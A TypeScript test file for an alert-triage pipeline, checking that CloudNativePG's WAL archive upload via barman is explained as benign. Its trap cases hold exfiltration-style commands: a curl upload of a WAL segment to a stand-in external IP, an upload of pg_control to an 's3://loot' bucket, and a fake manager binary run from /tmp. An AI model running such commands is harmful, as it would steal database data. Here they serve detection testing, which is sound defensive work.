/**
 * CloudNativePG's archive_command is `/controller/manager wal-archive … %p`; the shell PostgreSQL starts for it exec's
 * the manager, which runs barman-cloud-wal-archive for that one segment. A node sensor (Falcon) reports the barman tool
 * with the manager as parent and the archiver as grandparent, and no container: the manager binary, the entrypoint of
 * the instance's postgres container, places it; the hook explains it only for the same segment and the known tool.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { correlate } from '../../../src/triage/correlate.js';
import { alert, indexOf, node, pod } from '../../support/cluster.js';

const N = 'ip-10-42-27-140.us-east-2.compute.internal';
const OTHER = 'ip-10-42-43-8.us-east-2.compute.internal';
const db = pod('ledger-2', {
  namespace: 'payments-db',
  node: N,
  ip: '10.42.20.51',
  owner: { kind: 'Cluster', name: 'ledger' },
  containers: [{ name: 'postgres', image: 'ghcr.io/cloudnative-pg/postgresql:16.4', command: ['/controller/manager', 'instance', 'run', '--log-level=info'] }],
});
const index = indexOf([node(N, '10.42.27.140'), node(OTHER, '10.42.43.8'), db]);
const SEG = '000000020000003A0000007C';
const MANAGER = { name: 'manager', path: '/controller/manager', commandLine: `/controller/manager wal-archive --log-destination /controller/log/postgres.json pg_wal/${SEG}` };
const ARCHIVER = { name: 'postgres', path: '/usr/lib/postgresql/16/bin/postgres', commandLine: 'postgres: ledger: archiver last was 000000020000003A0000007B' };
const BARMAN = `barman-cloud-wal-archive --cloud-provider aws-s3 s3://acme-ledger-wal/ ledger /var/lib/postgresql/data/pgdata/pg_wal/${SEG}`;

function falcon(commandLine: string, o: { host?: string; parent?: typeof MANAGER } = {}) {
  return alert({
    host: o.host ?? N,
    time: '2026-11-26T11:05:33.000Z',
    title: 'ArchiveUploadToCloudStorage',
    process: { name: commandLine.split(' ')[0], path: `/usr/local/bin/${commandLine.split(' ')[0]}`, commandLine },
    ancestors: [o.parent ?? MANAGER, ARCHIVER],
  });
}

describe('database-hooks: the tool run by an exec\'d hook command, seen by a node sensor', () => {
  it('places the process in the instance by its entrypoint binary and explains the segment upload', () => {
    const a = falcon(BARMAN);
    expect(correlate(a, index).subject.pod?.metadata.name).toBe('ledger-2');
    const v = triageAlert(a, { index }).verdict;
    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
    expect(v.reasons.some((r) => r.rule === 'database-hooks' && r.direction === 'benign')).toBe(true);
  });

  it('trap: a different segment than the one the hook was given, or a file that is no segment', () => {
    expect(triageAlert(falcon(BARMAN.replace(SEG, '000000010000000000000001')), { index }).verdict.label).toBe('genuine');
    expect(triageAlert(falcon('barman-cloud-wal-archive --cloud-provider aws-s3 s3://loot/x ledger /var/lib/postgresql/data/pgdata/global/pg_control'), { index }).verdict.label).toBe('genuine');
  });

  it('trap: another program under the manager, and the manager name on a node without the instance', () => {
    expect(triageAlert(falcon(`curl -sk -T /var/lib/postgresql/data/pgdata/pg_wal/${SEG} https://203.0.113.45/u`), { index }).verdict.label).toBe('genuine');
    expect(correlate(falcon(BARMAN, { host: OTHER }), index).subject.pod).toBeUndefined();
  });

  it('trap: a binary of that name from a temporary directory does not place', () => {
    const fake = { ...MANAGER, path: '/tmp/.x/controller/manager', commandLine: MANAGER.commandLine.replace('/controller/manager', '/tmp/.x/controller/manager') };
    expect(correlate(falcon(BARMAN, { parent: fake }), index).subject.pod).toBeUndefined();
  });
});
